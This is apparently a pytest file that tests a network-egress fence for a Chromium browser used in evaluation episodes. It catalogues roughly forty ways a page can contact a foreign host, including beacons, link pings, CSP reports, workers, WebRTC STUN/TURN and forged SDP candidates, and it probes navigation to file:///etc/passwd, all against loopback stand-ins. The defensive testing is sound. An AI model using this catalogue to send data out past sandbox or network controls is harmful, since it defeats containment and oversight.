"""Every way out of a page, tried in a real Chromium: without a fence each leads out, with one none.

Servers on loopback play the foreign hosts. They listen for anything, on TCP and UDP.
"""

from __future__ import annotations

import asyncio
import socket
import threading
from contextlib import asynccontextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Final
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import async_playwright

from shared.evaluation.browser import close_context, fresh_context
from shared.evaluation.egress.fence import allow, allow_own, around
from shared.evaluation.egress.policy import Policy
from shared.local.chromium import find_chromium, launch_arguments

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator

    from playwright.async_api import Browser, Page

_OF_THE_FENCE: Final = (
    "--host-resolver-rules",
    "--force-webrtc-ip-handling-policy",
    "--disable-quic",
)

# In each, FAR is the foreign `host:port`. TO(path) is an address of the page's own server that
# redirects to it; SAY(header) one that answers with the header; RUN(script) one with the script.
WAYS_OUT: Final = {
    "fetch": "fetch('http://FAR/', {mode: 'no-cors'})",
    "redirected fetch": "fetch(TO('http://FAR/'), {mode: 'no-cors'})",
    "kept alive": "fetch('http://FAR/', {method: 'POST', mode: 'no-cors', keepalive: true})",
    "tls": "fetch('https://FAR/', {mode: 'no-cors'})",
    "localhost": "fetch('http://localhost:PORT/', {mode: 'no-cors'})",
    "decimal address": "fetch('http://2130706433:PORT/', {mode: 'no-cors'})",
    "socket": "new WebSocket('ws://FAR/')",
    "socket with tls": "new WebSocket('wss://FAR/')",
    "image": "new Image().src = 'http://FAR/'",
    "redirected image": "new Image().src = TO('http://FAR/')",
    "beacon": "navigator.sendBeacon('http://FAR/', 'x')",
    "event source": "new EventSource('http://FAR/')",
    "script": "add('script', {src: 'http://FAR/'})",
    "style": "add('style', {textContent: '@import \"http://FAR/\"'})",
    "font": "add('style', {textContent: '@font-face {font-family: q; src: url(http://FAR/)} "
    "body {font-family: q}'})",
    "video": "add('video', {src: 'http://FAR/'}).load()",
    "object": "add('object', {data: 'http://FAR/'})",
    "frame": "add('iframe', {src: 'http://FAR/'})",
    "redirected frame": "add('iframe', {src: TO('http://FAR/')})",
    "frame of data": "add('iframe', {src: 'data:text/html,<img src=http://FAR/>'})",
    "form": "add('iframe', {name: 'f'}), "
    "add('form', {method: 'post', target: 'f', action: 'http://FAR/'}).submit()",
    "link's ping": "add('a', {href: '#there', ping: 'http://FAR/'}).click()",
    "prefetch": "add('link', {rel: 'prefetch', href: 'http://FAR/'})",
    "preload": "add('link', {rel: 'preload', as: 'script', href: 'http://FAR/'})",
    "preload by header": "add('iframe', {src: SAY('Link: <http://FAR/>; rel=preload; as=image')})",
    "refresh by header": "add('iframe', {src: SAY('Refresh: 0; url=http://FAR/')})",
    "policy report": "add('iframe', {src: "
    "SAY(\"Content-Security-Policy: script-src 'none'; report-uri http://FAR/\")})",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://FAR/')\"])))",
    "shared worker": "new SharedWorker(RUN(\"fetch('http://FAR/', {mode: 'no-cors'})\"))",
    "service worker": "navigator.serviceWorker.register(RUN(\"fetch('http://FAR/', "
    "{mode: 'no-cors'})\"))",
    "window": "window.open('http://FAR/')",
    "redirected window": "window.open(TO('http://FAR/'))",
    "leaving": "location.href = 'http://FAR/'",
    "redirected leaving": "location.href = TO('http://FAR/')",
    "datagrams of http": "new WebTransport('https://FAR/').ready",
    "stun": "rtc('stun:FAR')",
    "turn": "rtc('turn:FAR?transport=udp')",
    "turn by tcp": "rtc('turn:FAR?transport=tcp')",
    "peer": "peer('FAR'.split(':'))",
}

# What these leave behind outlives their page.
IN_A_CONTEXT_OF_ITS_OWN: Final = {"service worker", "shared worker", "kept alive", "beacon"}

# These do not even come as far as the proxy.
UNHEARD: Final = {"service worker", "datagrams of http", "stun", "turn", "peer"}

_TOOLS: Final = """
  const TO = (url) => "/?to=" + encodeURIComponent(url);
  const SAY = (header) => "/?say=" + encodeURIComponent(header);
  const RUN = (script) => "/?run=" + encodeURIComponent(script);
  const add = (tag, known) => {
    const made = Object.assign(document.createElement(tag), known);
    for (const [name, value] of Object.entries(known)) {
      if (name !== "textContent") made.setAttribute(name, value);
    }
    document.body.append(made);
    return made;
  };
  const rtc = async (urls) => {
    const server = { urls, username: "a", credential: "b" };
    const connection = window.kept = new RTCPeerConnection({ iceServers: [server] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
  };
  const peer = async ([host, port]) => {
    const connection = window.kept = new RTCPeerConnection();
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    const sdp = connection.localDescription.sdp
      .replace("a=setup:actpass", "a=setup:active").replace(/a=candidate.*\\r\\n/g, "")
      + `a=candidate:1 1 udp 2113937151 ${host} ${port} typ host\\r\\n`;
    await connection.setRemoteDescription({ type: "answer", sdp });
  };
"""


class Foreign:
    """A host on loopback where nothing must arrive; answers what comes as if all were well."""

    def __init__(self) -> None:
        self.arrived = threading.Event()
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                self.arrived.set()
                with connection:
                    connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n")

    def _receive(self) -> None:
        with suppress(OSError):
            while self._udp.recv(2048):
                self.arrived.set()

    def close(self) -> None:
        for one in (self._tcp, self._udp):
            with suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


class OwnHandler(BaseHTTPRequestHandler):
    """The page's own server, which does what the page asks of it."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        asked = parse_qs(urlsplit(self.path).query)
        body = asked.get("run", ["<!doctype html><title>Own</title><p>Own</p><script>0</script>"])[
            0
        ].encode()
        self.send_response(302 if "to" in asked else 200)
        for url in asked.get("to", ()):
            self.send_header("Location", url)
        for header in asked.get("say", ()):
            self.send_header(*header.split(": ", 1))
        self.send_header("Content-Type", "text/javascript" if "run" in asked else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def own() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), OwnHandler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def foreign() -> Iterator[Foreign]:
    server = Foreign()
    yield server
    server.close()


class Browsers:
    """A Chromium as episodes have it, and one as Chromium is."""

    def __init__(self) -> None:
        self.runner = asyncio.Runner()
        self.fenced, self.unfenced = self.runner.run(self._start())

    async def _start(self) -> tuple[Browser, Browser]:
        self._playwright = await async_playwright().start()
        ours = launch_arguments()
        plain = [argument for argument in ours if not argument.startswith(_OF_THE_FENCE)]
        fenced, unfenced = await self._launch(ours), await self._launch(plain)
        self._page_without_a_fence = await (await unfenced.new_context()).new_page()
        return fenced, unfenced

    @asynccontextmanager
    async def page_without_a_fence(self, way: str) -> AsyncIterator[Page]:
        """One page for all ways, which each comes to anew: a process for each costs a third."""
        if way in IN_A_CONTEXT_OF_ITS_OWN:
            context = await self.unfenced.new_context()
            try:
                yield await context.new_page()
            finally:
                await context.close()
            return
        yield self._page_without_a_fence
        for page in self._page_without_a_fence.context.pages:
            if page is not self._page_without_a_fence:
                await page.close()

    async def _launch(self, arguments: list[str]) -> Browser:
        return await self._playwright.chromium.launch(
            executable_path=find_chromium().path, args=arguments, chromium_sandbox=True
        )

    async def _stop(self) -> None:
        await self.fenced.close()
        await self.unfenced.close()
        await self._playwright.stop()

    def close(self) -> None:
        self.runner.run(self._stop())
        self.runner.close()


@pytest.fixture(scope="module")
def browsers() -> Iterator[Browsers]:
    both = Browsers()
    yield both
    both.close()


async def go(page: Page, own: str, way: str, foreign: Foreign) -> None:
    await page.goto(own)
    script = WAYS_OUT[way].replace("FAR", f"127.0.0.1:{foreign.port}")
    script = script.replace("PORT", str(foreign.port))
    # A page that leaves takes the answer with it.
    with suppress(PlaywrightError):
        await page.evaluate(f"async () => {{ {_TOOLS}; try {{ await ({script}) }} catch {{}} }}")


async def until(happened: threading.Event, *, seconds: float) -> bool:
    for _ in range(round(seconds * 20)):
        if happened.is_set():
            return True
        await asyncio.sleep(0.05)
    return happened.is_set()


@pytest.mark.parametrize("way", WAYS_OUT)
def test_without_a_fence_it_leads_out(
    browsers: Browsers, own: str, foreign: Foreign, way: str
) -> None:
    async def check() -> bool:
        async with browsers.page_without_a_fence(way) as page:
            await go(page, own, way, foreign)
            return await until(foreign.arrived, seconds=15)

    assert browsers.runner.run(check()), "this is no way out, and proves nothing of the fence"


@pytest.mark.parametrize("way", WAYS_OUT)
def test_with_a_fence_it_does_not_and_is_recorded(
    browsers: Browsers, own: str, foreign: Foreign, way: str
) -> None:
    async def check() -> None:
        context = await fresh_context(browsers.fenced)
        policy = around(context).policy
        allow_own(context, own)
        try:
            await go(await context.new_page(), own, way, foreign)
            for _ in range(20 if way in UNHEARD else 300):
                if policy.refused:
                    break
                await asyncio.sleep(0.05)
        finally:
            await close_context(context)
        assert not foreign.arrived.is_set()
        ports = {urlsplit(f"//{r.target.rpartition('//')[2]}").port for r in policy.refused}
        assert ports == (set() if way in UNHEARD else {foreign.port})

    browsers.runner.run(check())


def test_before_anything_is_allowed_a_context_reaches_nothing(browsers: Browsers, own: str) -> None:
    async def check() -> None:
        context = await fresh_context(browsers.fenced)
        try:
            page = await context.new_page()
            response = await page.goto(own)
            assert response is not None
            assert response.status == 403
            line = await page.inner_text("body")
            assert line.strip() == f"{own}/ is refused: the task does not allow it"
            allow_own(context, own)
            await page.goto(own)
            assert await page.title() == "Own"
        finally:
            await close_context(context)

    browsers.runner.run(check())


def test_an_allowed_name_is_resolved_by_the_fence_alone(browsers: Browsers, own: str) -> None:
    """The browser itself resolves nothing; the name exists only for the policy."""

    async def check() -> None:
        async def resolve(host: str) -> list[str]:
            return {"shop.example": ["127.0.0.1"], "evil.example": ["127.0.0.1"]}[host]

        port = urlsplit(own).port
        context = await fresh_context(browsers.fenced)
        around(context).policy = Policy(resolve=resolve, inner_hosts={"shop.example"})
        allow(context, f"http://shop.example:{port}", f"http://evil.example:{port}")
        try:
            page = await context.new_page()
            await page.goto(f"http://shop.example:{port}/")
            assert await page.title() == "Own"
            # Allowed, and yet it leads inside.
            response = await page.goto(f"http://evil.example:{port}/")
            assert response is not None
            assert response.status == 403
        finally:
            await close_context(context)

    browsers.runner.run(check())


@pytest.mark.parametrize(
    "elsewhere",
    [
        "file:///etc/passwd",
        "chrome://version",
        "data:text/html,<title>data</title>",
        "view-source:OWN",
    ],
)
@pytest.mark.parametrize(
    "way", ["location.href = '{}'", "window.open('{}')", "a.click()", "redirect"]
)
def test_a_page_cannot_leave_the_web(
    browsers: Browsers, own: str, way: str, elsewhere: str
) -> None:
    async def check() -> list[str]:
        elsewhere_ = elsewhere.replace("OWN", own)
        context = await fresh_context(browsers.fenced)
        allow_own(context, own)
        try:
            page = await context.new_page()
            await page.goto(own)
            if way == "redirect":
                with suppress(PlaywrightError):
                    await page.goto(f"{own}/?to={quote(elsewhere_, safe='')}")
            elif way == "a.click()":
                await page.evaluate(
                    f"() => {{ {_TOOLS}; add('a', {{href: '{elsewhere_}'}}).click() }}"
                )
            else:
                await page.evaluate(f"() => {{ {way.format(elsewhere_)} }}")
            await page.wait_for_timeout(300)
            return [other.url for other in context.pages]
        finally:
            await close_context(context)

    shown = browsers.runner.run(check())

    for url in shown:
        assert url.startswith((own, "about:blank", "chrome-error:")) or url in {"", ":"}
